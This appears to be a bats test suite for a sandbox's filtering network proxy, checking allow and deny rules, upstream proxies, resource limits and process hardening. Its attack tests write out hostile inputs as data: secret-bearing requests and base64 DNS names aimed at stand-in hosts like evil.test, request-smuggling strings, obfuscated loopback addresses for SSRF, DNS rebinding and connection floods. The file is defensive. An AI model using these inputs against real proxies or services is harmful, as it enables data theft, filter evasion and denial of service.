#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# The filtering proxy, with real clients and with servers on loopback. 127.0.0.5 is where allowed
# hosts are, 127.0.0.6 and 127.0.0.1 where nobody may get (canaries). A numbers: attacks.
# shellcheck disable=SC2154 # ports come from the peers' file

load ../lib/need
load ../lib/peers

setup_file() {
    peers_dir abx-proxy
    printf '127.0.0.5 ok.test a.wild.test a.b.wild.test git.test\n127.0.0.6 evil.test wild.test evilok.test ok.test.evil.test\n127.0.0.1 inside.test\n' >"$DIR/hosts"
    printf 'nameserver 127.0.0.5\nsearch search.test\noptions timeout:1 attempts:2\n' >"$DIR/resolv"
    peers_start
}

setup() {
    peers_setup
    PROXY_PID=
    : >"$DIR/log"
    : >"$DIR/canary"
    : >"$DIR/dns"
}

teardown() {
    if grep -s 'Sanitizer\|runtime error' "$OUT.err"; then
        return 1
    fi
    [ -z "$PROXY_PID" ] || { kill -KILL "$PROXY_PID" && wait "$PROXY_PID"; } 2>/dev/null || :
}

# proxy [OPTION…]: starts it; $P is its port, $URL its address for clients.
proxy() {
    : >"$OUT"
    "$BOX" proxy --no-config --json --hosts-file "$DIR/hosts" --resolv-file "$DIR/resolv" \
        --dns-port "$DNS" "$@" >"$OUT" 2>"$OUT.err" 3>&- &
    PROXY_PID=$!
    wait_for grep -q listening "$OUT"
    P=$(sed -n 's/.*"listening".*"port":\([0-9]*\).*/\1/p' "$OUT")
    URL=http://127.0.0.1:$P
}

# The hosts of most tests: two names, and the address that they have.
usual() {
    proxy --allow-domain ok.test --allow-domain '*.wild.test' --allow-domain 127.0.0.5 "$@"
}

get() {
    curl -sS --max-time 15 -x "$URL" "$@"
}

say() {
    python3 "$BATS_TEST_DIRNAME/../lib/proxy_peers.py" say "$P" "$@"
}

role() {
    pgrep -P "$PROXY_PID"
}

# The canary works (we call it ourselves, at the end), and nobody else did.
nobody_called() {
    if [ -s "$DIR/canary" ]; then
        echo "the canary was reached"
        return 1
    fi
    (exec 3<>"/dev/tcp/127.0.0.6/$CANARY") && wait_for test -s "$DIR/canary"
}

# counted N PATTERN: so many lines of what the proxy printed.
counted() {
    [ "$(grep -c "$2" "$OUT")" -eq "$1" ]
}

# ---- real clients ----------------------------------------------------------------------------------

@test "curl gets http, https, and both through SOCKS5" {
    usual
    [ "$(get "http://ok.test:$HTTP/hello")" = hello ]
    [ "$(get --cacert "$DIR/cert.pem" "https://ok.test:$HTTPS/hello")" = hello ]
    [ "$(get -p "http://a.b.wild.test:$HTTP/hello")" = hello ]
    URL=socks5h://127.0.0.1:$P
    [ "$(get "http://ok.test:$HTTP/hello")" = hello ]
    [ "$(get --cacert "$DIR/cert.pem" "https://ok.test:$HTTPS/hello")" = hello ]
    URL=socks5://127.0.0.1:$P
    [ "$(get --resolve "ok.test:$HTTP:127.0.0.5" "http://ok.test:$HTTP/hello")" = hello ]
    wait_for counted 6 '"event":"allowed"'
    counted 0 '"event":"refused"'
}

@test "curl shows our reason for what is refused, in every protocol" {
    usual
    run get "http://evil.test:$CANARY/"
    [[ $output == *"evil.test:$CANARY is not allowed"*"--allow-domain evil.test:$CANARY"* ]]
    run get -v "https://evil.test:$CANARY/"
    [[ $output == *"403"*"is not allowed"* ]]
    URL=socks5h://127.0.0.1:$P
    run get "http://evil.test:$CANARY/"
    [ "$status" -eq 97 ]
    wait_for counted 3 '"event":"refused"'
    grep -q '"host":"evil.test".*"detail":"socks5".*"grant":"--allow-domain evil.test:'"$CANARY" "$OUT"
    nobody_called
}

@test "wget, python, git and openssl work, and show why not" {
    command -v wget git openssl
    usual --allow-domain git.test
    export http_proxy=$URL https_proxy=$URL
    [ "$(wget -qO- "http://ok.test:$HTTP/hello")" = hello ]
    [ "$(wget -qO- --ca-certificate "$DIR/cert.pem" "https://ok.test:$HTTPS/hello")" = hello ]
    run wget -O- "http://evil.test:$CANARY/"
    [[ $output == *"403"*"not allowed"* ]]

    [ "$(python3 -c 'import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode().strip())' \
        "http://ok.test:$HTTP/hello")" = hello ]
    run python3 -c 'import sys, urllib.request; urllib.request.urlopen(sys.argv[1])' "http://evil.test:$CANARY/"
    [[ $output == *"403"*"not allowed"* ]]

    git init -q "$DIR/work$BATS_TEST_NUMBER"
    git -C "$DIR/work$BATS_TEST_NUMBER" -c user.name=t -c user.email=t@t commit -q --allow-empty -m one
    git clone -q --bare "$DIR/work$BATS_TEST_NUMBER" "$DIR/repo.git"
    git -C "$DIR/repo.git" update-server-info
    git clone -q "http://git.test:$HTTP/repo.git" "$DIR/clone$BATS_TEST_NUMBER"
    run git clone "http://evil.test:$CANARY/repo.git" "$DIR/none"
    [[ $output == *403* ]]

    run openssl s_client -proxy "127.0.0.1:$P" -connect "ok.test:$HTTPS" -servername ok.test </dev/null
    [[ $output == *"CN = ok.test"* ]]
    nobody_called
}

@test "node's http client goes through the proxy" {
    need node
    usual
    cat >"$DIR/fetch.js" <<'EOF'
const http = require("http"), [, , port, url] = process.argv;
http.get({ host: "127.0.0.1", port, path: url }, r => r.on("data", d => process.stdout.write(d)));
EOF
    [ "$(node "$DIR/fetch.js" "$P" "http://ok.test:$HTTP/hello")" = hello ]
}

# ---- HTTP ------------------------------------------------------------------------------------------

@test "bodies go both ways in every framing" {
    usual
    [ "$(get "http://ok.test:$HTTP/chunked")" = "one two three" ]
    [ "$(get "http://ok.test:$HTTP/close")" = "until the end" ]
    [ "$(get --http1.0 "http://ok.test:$HTTP/chunked")" = "one two three" ]
    [ "$(get -I "http://ok.test:$HTTP/big/12345" | tr -d '\r' | grep -i '^content-length')" = "Content-Length: 12345" ]
    [ "$(get -d 'some data' "http://ok.test:$HTTP/post")" = "got 9 some data" ]
    [ "$(get -H 'Transfer-Encoding: chunked' -d 'some data' "http://ok.test:$HTTP/post")" = "got 9 some data" ]
    [ "$(get -H 'Expect: 100-continue' -d 'some data' "http://ok.test:$HTTP/post")" = "got 9 some data" ]
    head -c 5000000 /dev/zero | tr '\0' y >"$DIR/five"
    [[ $(get -T "$DIR/five" "http://ok.test:$HTTP/put") == "got 5000000 "* ]]
    [[ $(get -T - "http://ok.test:$HTTP/put" <"$DIR/five") == "got 5000000 "* ]]
    [ "$(get "http://ok.test:$HTTP/big/30000000" | wc -c)" -eq 30000000 ]
    [ "$(get -p "http://ok.test:$HTTP/big/30000000" | wc -c)" -eq 30000000 ]
}

@test "a connection is kept, and headers of one hop stay behind" {
    usual
    run say "GET http://ok.test:$HTTP/hello HTTP/1.1\r\nHost: x\r\n\r\nGET http://ok.test:$HTTP/headers HTTP/1.1\r\nHost: liar.test\r\nConnection: close, X-Secret\r\nX-Secret: 1\r\nX-Open: 2\r\nProxy-Authorization: Basic eDp4\r\nKeep-Alive: 5\r\n\r\n"
    [[ $output == *hello* && $output == *"X-Open: 2"* && $output == *"Host: ok.test:$HTTP"* && $output == *"<end>"* ]]
    [[ $output != *X-Secret* && $output != *liar* && $output != *Proxy-Auth* ]]
    [ "$(wc -l <"$DIR/log")" -eq 2 ]
}

@test "a websocket becomes a tunnel" {
    usual
    run say "GET http://ok.test:$HTTP/socket HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" "and back\n"
    [[ $output == *"101"*"hello from the socket"*"and back"* ]]
}

@test "requests with two readings are refused, and nobody sees them" {
    usual
    local bad
    for bad in \
        "GET http://ok.test:$HTTP/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n" \
        "GET http://ok.test:$HTTP/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n" \
        "GET http://ok.test:$HTTP/ HTTP/1.1\r\nHost : x\r\n\r\n" \
        "GET http://ok.test:$HTTP/ HTTP/1.1\nHost: x\n\n" \
        "GET http://ok.test:$HTTP/ HTTP/1.1\r\nHost: x\r\nA: b\r\n c\r\n\r\n" \
        "GET http://ok.test:$HTTP/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n" \
        "GET /hello HTTP/1.1\r\nHost: ok.test:$HTTP\r\n\r\n" \
        "GET http://ok.test:$HTTP/\x00 HTTP/1.1\r\nHost: x\r\n\r\n"; do
        run say "$bad"
        [[ $output == "HTTP/1.1 400 "* ]]
    done
    run get "http://ok.test:$HTTP/nonsense"
    [[ $output == *"valid HTTP"* ]]
    [ "$(wc -l <"$DIR/log")" -eq 1 ]
}

# ---- attacks ---------------------------------------------------------------------------------------

@test "A92 A93 A97 only what is listed is reached, at label boundaries" {
    usual
    local host
    for host in evil.test evilok.test ok.test.evil.test wild.test test; do
        run get "http://$host:$CANARY/?x=secret"
        [[ $output == *"not allowed"* ]]
        run get -p "http://$host:$CANARY/?x=secret"
        [ "$status" -eq 56 ]
    done
    kill "$PROXY_PID"
    proxy
    run get "http://ok.test:$HTTP/hello"
    [[ $output == *"not allowed"* ]]
    nobody_called
}

@test "A94 A95 hosts that are none are refused at once" {
    usual
    [[ $(say '\x05\x01\x00' '\x05\x01\x00\x03\x14evil.test\x00.wild.test\x00\x50' | xxd -p) =~ ^050005(01|02|04|08) ]]
    local host
    for host in 'evil.test%00.wild.test' 'evil.test%2ewild.test' 'ev il.test' 'evil_x.wild.test' \
        '-a.wild.test' 'a..wild.test' "$(printf 'a%.0s' {1..64}).wild.test" 'ok.test:0' 'ok.test:99999' 'user@ok.test'; do
        run say "CONNECT $host:$CANARY HTTP/1.1\r\n\r\n"
        [[ $output == *" 400 "* ]]
        run say "GET http://$host/ HTTP/1.1\r\nHost: x\r\n\r\n"
        [[ $output == *" 400 "* ]]
    done
    [ ! -s "$DIR/log" ]
    [ ! -s "$DIR/dns" ]
    nobody_called
}

@test "A96 case and a dot at the end change nothing" {
    usual
    [ "$(get "http://OK.TEST:$HTTP/hello")" = hello ]
    [ "$(get "http://ok.test.:$HTTP/hello")" = hello ]
    run get "http://EVIL.test.:$CANARY/"
    [[ $output == *"evil.test:$CANARY is not allowed"* ]]
    nobody_called
}

@test "A99 a TLS client that names another server is cut off" {
    usual
    run openssl s_client -proxy "127.0.0.1:$P" -connect "ok.test:$HTTPS" -servername evil.test </dev/null
    [[ $output == *"unrecognized name"* && $output != *"CN = ok.test"* ]]
    run openssl s_client -proxy "127.0.0.1:$P" -connect "ok.test:$HTTPS" -noservername </dev/null
    [[ $output != *"CN = ok.test"* ]]
    wait_for counted 2 '"event":"refused".*TLS'
    # An address was allowed as such: no name has to match.
    run openssl s_client -proxy "127.0.0.1:$P" -connect "127.0.0.5:$HTTPS" -noservername </dev/null
    [[ $output == *"CN = ok.test"* ]]
}

@test "A102 A107 every request of a connection is judged, a redirect's too" {
    usual
    run say "GET http://ok.test:$HTTP/hello HTTP/1.1\r\nHost: x\r\n\r\nGET http://evil.test:$CANARY/ HTTP/1.1\r\nHost: ok.test\r\n\r\nGET http://ok.test:$HTTP/hello HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    [[ $output == *"200 OK"*hello*" 403 "*"not allowed"*"200 OK"*hello* ]]
    run get -L "http://ok.test:$HTTP/redirect"
    [[ $output == *"evil.test:$CANARY is not allowed"* ]]
    nobody_called
}

@test "A104 every spelling of an internal address is that address" {
    usual
    local host
    for host in 2130706433 0x7f.1 0177.0.0.1 127.1 0 '[::ffff:127.0.0.1]' '[::]' '[64:ff9b::7f00:1]' '[::1]' 127.0.0.1 127.0.0.1.; do
        run say "CONNECT $host:$CANARY HTTP/1.1\r\n\r\n"
        [[ $output == *" 403 "*"internal address"* ]]
        run say "GET http://$host:$CANARY/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        [[ $output == *" 403 "*"internal address"* ]]
    done
    [[ $(say '\x05\x01\x00' '\x05\x01\x00\x01\x7f\x00\x00\x01\x00\x50' | xxd -p) == 05000502* ]]
    nobody_called
}

@test "A105 A106 names are judged by what they resolve to: all of it, once" {
    proxy --allow-domain '*.dns.test' --allow-domain 127.0.0.5
    [ "$(get "http://ok.dns.test:$HTTP/hello")" = hello ]
    [ "$(get "http://alias.dns.test:$HTTP/hello")" = hello ]
    local host
    for host in inside.dns.test metadata.dns.test mixed.dns.test trap.dns.test; do
        run get "http://$host:$CANARY/"
        [[ $output == *"internal address"* ]]
    done
    [ "$(get "http://rebind.dns.test:$HTTP/hello")" = hello ]
    sleep 1.1
    run get "http://rebind.dns.test:$CANARY/"
    [[ $output == *"internal address"* ]]
    [ "$(grep -c '^ok.dns.test 1$' "$DIR/dns")" -eq 1 ]
    run get "http://inside.test:$CANARY/"
    [[ $output == *"not allowed"* ]]
    nobody_called
}

@test "A108 a port in a pattern is that port only" {
    proxy --allow-domain "ok.test:$HTTP" --allow-domain 127.0.0.5
    [ "$(get "http://ok.test:$HTTP/hello")" = hello ]
    run get -p "http://ok.test:$HTTPS/"
    [ "$status" -eq 56 ]
    run get "http://ok.test:22/"
    [[ $output == *"not allowed"* ]]
}

@test "A111 a name that is not allowed is never looked up" {
    proxy --allow-domain ok.dns.test --allow-domain 127.0.0.5
    run get "http://c2VjcmV0.evil.dns.test/"
    run get -p "http://c2VjcmV0.evil.dns.test/"
    run curl -sS -x "socks5h://127.0.0.1:$P" "http://c2VjcmV0.evil.dns.test/"
    [ ! -s "$DIR/dns" ]
    [ "$(get "http://ok.dns.test:$HTTP/hello")" = hello ]
    [ -s "$DIR/dns" ]
}

@test "a configuration that blocks the network starts none" {
    run timeout 20 "$BOX" proxy --no-config --allow-domain ok.test --set network.mode=blocked
    [ "$status" -eq 125 ]
    [[ $output == *"network.mode is 'blocked'"*"hint: --set network.mode=filtered"* ]]
}

@test "denied beats allowed" {
    usual --deny-domain a.wild.test
    run get "http://a.wild.test:$HTTP/hello"
    [[ $output == *"is denied by 'a.wild.test'"* ]]
    [ "$(get "http://a.b.wild.test:$HTTP/hello")" = hello ]
}

@test "SOCKS4, unknown commands and TLS are turned away cleanly" {
    usual
    run say '\x04\x01\x00\x50\x7f\x00\x00\x01\x00'
    [[ $output == *"<end>"* ]]
    [ "$(say '\x05\x01\x02' | xxd -p | cut -c1-4)" = 05ff ]
    [ "$(say '\x05\x01\x00' '\x05\x02\x00\x01\x7f\x00\x00\x01\x00\x50' | xxd -p | cut -c1-8)" = 05000507 ]
    [ "$(say '\x16\x03\x01\x00\x05hello')" = "<end>" ]
}

# ---- names -----------------------------------------------------------------------------------------

@test "names: search domains, answers over TCP, silence and failure of servers" {
    proxy --allow-domain '*.dns.test' --allow-domain host.search.test --allow-domain nosuch.test --allow-domain 127.0.0.5
    [ "$(get "http://many.dns.test:$HTTP/hello")" = hello ]
    grep -q 'many.dns.test 1 tcp' "$DIR/dns"
    run get "http://nosuch.test/"
    [[ $output == *"cannot be resolved"*"no such name"* ]]
    run get "http://servfail.dns.test/"
    [[ $output == *"cannot be resolved"* ]]
}

@test "a hosts file of megabytes, as lists of unwanted hosts are" {
    { awk 'BEGIN { for (i = 0; i < 200000; i++) print "0.0.0.0 ads" i ".unwanted.test" }'; cat "$DIR/hosts"; } >"$DIR/hosts.large"
    [ "$(wc -c <"$DIR/hosts.large")" -gt 5000000 ]
    usual --hosts-file "$DIR/hosts.large"
    [ "$(get "http://ok.test:$HTTP/hello")" = hello ]
}

@test "the second address is tried when the first does not answer" {
    proxy --allow-domain dead.dns.test --allow-domain 127.0.0.0/8
    [ "$(get "http://dead.dns.test:$HTTP/hello")" = hello ]
}

# ---- other proxies ---------------------------------------------------------------------------------

@test "an upstream proxy gets everything, with the password, and no name is resolved here" {
    export AGENTBOX_UPSTREAM_AUTH='user:pass word'
    proxy --allow-domain far.test --set "network.upstreamProxy=http://127.0.0.5:$UPSTREAM"
    [ "$(get "http://far.test/x")" = proxied ]
    [ "$(get -p "http://far.test:$HTTP/hello")" = hello ]
    run get "http://evil.test:$CANARY/"
    [[ $output == *"not allowed"* ]]
    grep -q "upstream CONNECT far.test:$HTTP" "$DIR/log"
    grep -q "upstream GET http://far.test/x" "$DIR/log"
    [ ! -s "$DIR/dns" ]
    kill "$PROXY_PID"
    export AGENTBOX_UPSTREAM_AUTH=user:wrong
    proxy --allow-domain far.test --set "network.upstreamProxy=http://127.0.0.5:$UPSTREAM"
    run get -p -v "http://far.test/"
    [[ $output == *"502"* ]]
    [ "$(grep -c wrong "$OUT")" -eq 0 ]
    nobody_called
}

@test "a websocket goes through an upstream proxy as a tunnel: nothing behind it is a request there" {
    export AGENTBOX_UPSTREAM_AUTH='user:pass word'
    proxy --allow-domain far.test --set "network.upstreamProxy=http://127.0.0.5:$UPSTREAM"
    run say "GET http://far.test:$HTTP/socket HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" \
        "GET http://evil.test:$CANARY/ HTTP/1.1\r\nHost: x\r\n\r\n"
    [[ $output == *"101"*"hello from the socket"*"GET http://evil.test"* ]]
    grep -q "upstream CONNECT far.test:$HTTP" "$DIR/log"
    run ! grep 'upstream GET\|pass word\|Proxy-Auth' "$DIR/log"
    nobody_called
}

@test "one proxy can be another's SOCKS5 upstream" {
    usual
    local first=$PROXY_PID second_url=socks5://127.0.0.1:$P
    OUT=$OUT.second
    proxy --allow-domain ok.test --set "network.upstreamProxy=$second_url"
    [ "$(get "http://ok.test:$HTTP/hello")" = hello ]
    [ "$(get -p "http://ok.test:$HTTP/hello")" = hello ]
    kill -KILL "$first"
}

@test "mitmProxy gets its hosts, others go on their own" {
    usual --set "network.mitmProxy.socketPath=$DIR/mitm.sock" --set 'network.mitmProxy.domains=*.wild.test'
    [ "$(get -p "http://a.wild.test:$HTTP/hello")" = hello ]
    [ "$(get "http://a.wild.test:$HTTP/hello")" = proxied ]
    [ "$(get "http://ok.test:$HTTP/hello")" = hello ]
    grep -q "mitm CONNECT a.wild.test:$HTTP" "$DIR/log"
    grep -q "mitm GET /hello" "$DIR/log"
}

# ---- limits and ends -------------------------------------------------------------------------------

@test "A119 thousands of half-open connections: others are served, memory stays small" {
    usual
    python3 - "$P" <<'EOF' 3>&- &
import resource, socket, sys, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
for i in range(3000):
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect(("127.0.0.1", int(sys.argv[1])))
    except BlockingIOError:
        pass
    held.append(s)
    if i % 3 == 0:
        time.sleep(0.001)
        try:
            s.send(b"CONNECT ok.test:1 HTTP/1.1\r\nX: ")
        except OSError:
            pass
time.sleep(20)
EOF
    local flood=$!
    sleep 2
    [ "$(get "http://ok.test:$HTTP/hello")" = hello ]
    [ "$(get -p "http://ok.test:$HTTP/hello")" = hello ]
    [ "$(awk '/VmRSS/ { print $2 }' "/proc/$(role)/status")" -lt 60000 ]
    kill "$flood"
}

@test "A119 endless heads and bodies, slow requests: each has an end" {
    usual
    run bash -c "{ printf 'GET http://ok.test:$HTTP/ HTTP/1.1\r\n'; yes 'X-Header: something' | head -c 300000; sleep 3; } | timeout 5 nc -q1 127.0.0.1 $P 2>/dev/null || { exec 3<>/dev/tcp/127.0.0.1/$P; printf 'GET http://ok.test:$HTTP/ HTTP/1.1\r\n' >&3; yes 'X-Header: something'\$'\r' | head -c 300000 >&3 2>/dev/null; head -c 200 <&3; }"
    [[ $output == *" 431 "* || $output == *" 400 "* ]]
    head -c 11000000 /dev/zero >"$DIR/eleven"
    run get -T "$DIR/eleven" "http://ok.test:$HTTP/put"
    [[ $output == *"larger than allowed"* ]]
    run get -T - "http://ok.test:$HTTP/put" <"$DIR/eleven"
    wait_for counted 2 '"event":"refused".*larger'
    [ "$(grep -c '^POST\|^PUT' "$DIR/log")" -eq 0 ]
    local start=$SECONDS
    run python3 - "$P" <<'EOF'
import socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.settimeout(0.5)
for c in b"GET http://ok.test/ HTTP/1.1\r\nX: " + b"a" * 60:
    try:
        s.send(bytes([c]))
    except OSError:
        break
    try:
        got = s.recv(100)
        print(got.decode())
        break
    except TimeoutError:
        pass
EOF
    [[ $output == *" 408 "* ]]
    [ $((SECONDS - start)) -le 14 ]
}

@test "A119 a client that never reads is waited for with one chunk, not with more" {
    usual
    python3 - "$P" "$HTTP" <<'EOF' 3>&- &
import socket, sys, time
held = []
for i in range(40):
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
    s.sendall(b"GET http://ok.test:%s/big/50000000 HTTP/1.1\r\nHost: x\r\n\r\n" % sys.argv[2].encode())
    held.append(s)
time.sleep(20)
EOF
    local client=$!
    sleep 3
    # A sanitizer's own memory is not what is meant.
    [ -n "$ABX_SANITIZED" ] || [ "$(awk '/VmRSS/ { print $2 }' "/proc/$(role)/status")" -lt 20000 ]
    [ "$(get "http://ok.test:$HTTP/hello")" = hello ]
    kill "$client"
}

@test "a silent server holds up nobody else" {
    usual
    get "http://ok.test:$HTTP/silent" >/dev/null 2>&1 3>&- &
    local waiting=$!
    [ "$(get "http://ok.test:$HTTP/hello")" = hello ]
    kill "$waiting"
}

@test "A118 a killed role: nothing gets through, and the program says so" {
    usual
    kill -KILL "$(role)"
    wait "$PROXY_PID" || status=$?
    [ "$status" -eq 125 ]
    grep -q 'the network proxy: it is gone' "$OUT.err"
    run get "http://ok.test:$HTTP/hello"
    [ "$status" -eq 7 ]
    PROXY_PID=
}

@test "the role ends with the program, however that ends" {
    usual
    local pid
    pid=$(role)
    kill -KILL "$PROXY_PID"
    wait_for not_there "$pid"
}

not_there() {
    [ ! -e "/proc/$1" ]
}

@test "SIGTERM lets a request end, and cuts tunnels after five seconds" {
    usual
    get "http://ok.test:$HTTP/slow" >"$OUT.slow" 2>&1 3>&- &
    local client=$!
    sleep 0.5
    kill -TERM "$PROXY_PID"
    wait "$client"
    [ "$(cat "$OUT.slow")" = late ]
    wait "$PROXY_PID"
    PROXY_PID=

    usual
    exec 4<>"/dev/tcp/127.0.0.1/$P"
    printf 'CONNECT ok.test:%s HTTP/1.1\r\n\r\n' "$HTTP" >&4
    head -c 12 <&4 >/dev/null
    local start=$SECONDS
    kill -TERM "$PROXY_PID"
    wait "$PROXY_PID"
    [ $((SECONDS - start)) -ge 4 ]
    [ $((SECONDS - start)) -le 7 ]
    PROXY_PID=
    exec 4>&-
}

@test "the role is shut in, has only its sockets, and is not for starting by hand" {
    usual
    local status_file
    status_file=/proc/$(role)/status
    grep -qx 'Seccomp:.2' "$status_file"
    grep -qx 'NoNewPrivs:.1' "$status_file"
    [ "$(find "/proc/$(role)/fd" -mindepth 1 | wc -l)" -le 6 ]
    grep -q 'Max core file size *0 *0' "/proc/$(role)/limits"
    run "$BOX" net-role
    [ "$status" -eq 125 ]
    [[ $output == *"no control socket"* ]]
    run "$BOX" help
    [[ $output != *net-role* ]]
}

@test "A117 credentials of the upstream proxy are on no command line, in no record" {
    AGENTBOX_UPSTREAM_AUTH=user:hidden proxy --allow-domain far.test \
        --set "network.upstreamProxy=http://127.0.0.5:$UPSTREAM"
    run get "http://far.test/x"
    run cat "/proc/$(role)/cmdline" "/proc/$(role)/environ" "/proc/$PROXY_PID/cmdline" "$OUT" "$OUT.err"
    [[ $output == *net-role* && $output != *hidden* ]]
}
